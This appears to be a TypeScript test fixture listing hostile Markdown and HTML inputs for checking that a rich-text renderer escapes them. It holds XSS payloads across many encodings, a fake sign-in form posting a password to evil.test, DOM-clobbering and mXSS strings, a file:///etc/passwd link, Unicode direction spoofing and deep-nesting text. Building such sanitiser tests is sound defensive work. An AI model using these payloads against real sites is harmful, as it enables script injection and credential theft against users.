import type { RichNode } from '../../src/shared/text/rich-text.ts';

/** Runs if a hostile text isn't escaped. */
const run = 'globalThis.hacked=1';
export const evil = 'https://evil.test';

/** Markdown that tries to make a page run code, load something or look different. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: `<script>${run}</script><script src="${evil}/x.js"></script>`,
  handlers: `<img src=x onerror="${run}"><svg onload=${run}><details open ontoggle=${run}><b onmouseover='${run}'>b</b>`,
  frames: `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="${evil}/x"></object><embed src="${evil}/x">`,
  forms: `<form action="${evil}/take" id="hostile"><input name="password" autofocus onfocus=${run}><button>Sign in</button></form>`,
  styles: `<style>body{display:none}</style><p style="position:fixed;inset:0;background:url(${evil}/x.png)">all over</p>`,
  head: `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}"><link rel="stylesheet" href="${evil}/x.css">`,
  clobbered:
    '<a id="root" name="root"></a><form id="hostile" name="location"></form>\n\n# root\n\n## constructor\n\n## __proto__',
  quotes: `<a title='"><img src=x onerror=${run}>' href="${evil}/nested">nested</a> <a title="'\`>${run}</a>`,
  comments: `<!--><img src=x onerror=${run}>--> <![CDATA[<img src=x onerror=${run}>]]> <?x <img src=x onerror=${run}>?>`,
  unclosed: `<img src="x" onerror="${run}"\n\n<a href="javascript:${run}"\n\n<textarea><title><xmp><noscript><plaintext>`,
  mutated: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></math>`,
  program: `[plain](javascript:${run}) [case](JaVaScRiPt:${run}) [entity](javascript&#58;${run}) [entity](&#x6A;avascript&colon;${run})`,
  blanks: `[tab](java&#9;script:${run}) [line](java&#10;script:${run}) [before](&#1;javascript:${run}) [escaped](java%0ascript:${run})`,
  schemes: `[vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==) [blob](blob:${evil}/x) [file](file:///etc/passwd)`,
  relative: `[slashes](//evil.test/x) [back](/\\evil.test/x) [escaped](/%5cevil.test/x) [user](https://acado.test@evil.test/x)`,
  titles: `[titled](${evil}/titled '"onmouseover="${run}') [titled](${evil}/two "</a><img src=x onerror=${run}>")`,
  linked: `[<img src=x onerror=${run}>](${evil}/image) [![shown](${evil}/x.png)](${evil}/in-link) [a [b](${evil}/inner) c](${evil}/outer)`,
  found: `<javascript:${run}> <data:text/html,x> <${evil}/auto?"onmouseover="${run}> ${evil}/bare www.evil.test someone@evil.test`,
  pictures: `![x](javascript:${run}) ![x](${evil}/x.png) ![x](//evil.test/x.png) ![x](data:image/svg+xml,<svg/onload=${run}>)`,
  references: `[there][1] ![there][2] [__proto__] [constructor][]\n\n[1]: javascript:${run} "x"\n[2]: ${evil}/reference.png\n[__proto__]: ${evil}/proto`,
  code: `\`<img src=x onerror=${run}>\`\n\n\`\`\`html"onmouseover="${run}\n<script>${run}</script>\n\`\`\``,
  tables: `| <img src=x onerror=${run}> | [x](javascript:${run}) |\n|:-|-:|\n| <script>${run}</script> | ![x](${evil}/t.png) |`,
  maths: `$\\href{javascript:${run}}{x}$ $\\includegraphics{${evil}/x.png}$ $\\htmlData{onclick=${run}}{x}$ $\\style{background:url(${evil})}{x}$`,
  turned:
    'safe\u202egpj.exe\u202c \u2066hidden\u2069 \u200bzero\u200bwidth\u200d \ufeffmark [\u202etxet](https://evil.test/turned)',
};

/** The shortest text that would run if it were shown as markup. */
export const hostileLine = `<img src=x onerror="${run}">`;

/** So deeply nested that recursion over it fails. */
export const deepText = `${'> '.repeat(3_000)}deep\n\n${'- '.repeat(3_000)}deep\n\n${'*_'.repeat(3_000)}deep\n\n${'['.repeat(3_000)}deep`;

/** Nodes that no parser produces, but that might be stored. */
export const hostileNodes = [
  {
    kind: 'paragraph',
    children: [
      { kind: 'link', href: `javascript:${run}`, children: ['program'] },
      { kind: 'link', href: ` data:text/html,<script>${run}</script>`, children: ['data'] },
      { kind: 'link', href: '//evil.test/slashes', children: ['slashes'] },
      { kind: 'link', href: `${evil}/stored`, title: `"onmouseover="${run}`, children: ['stored'] },
      { kind: 'image', src: `${evil}/stored.png`, alt: 'elsewhere' },
      { kind: 'image', src: '//evil.test/stored.png', alt: 'elsewhere' },
      { kind: 'script', children: [run] },
      { kind: 'iframe', src: evil, children: [] },
      {
        kind: 'maths',
        display: 'inline',
        children: [{ tag: 'script', attributes: { src: `${evil}/x.js` }, children: [run] }],
      },
      {
        kind: 'maths',
        display: 'inline',
        children: [
          {
            tag: 'mtext',
            attributes: { href: `javascript:${run}`, onclick: run, style: 'color:red' },
            children: ['m'],
          },
        ],
      },
    ],
  },
] as unknown as readonly RichNode[];
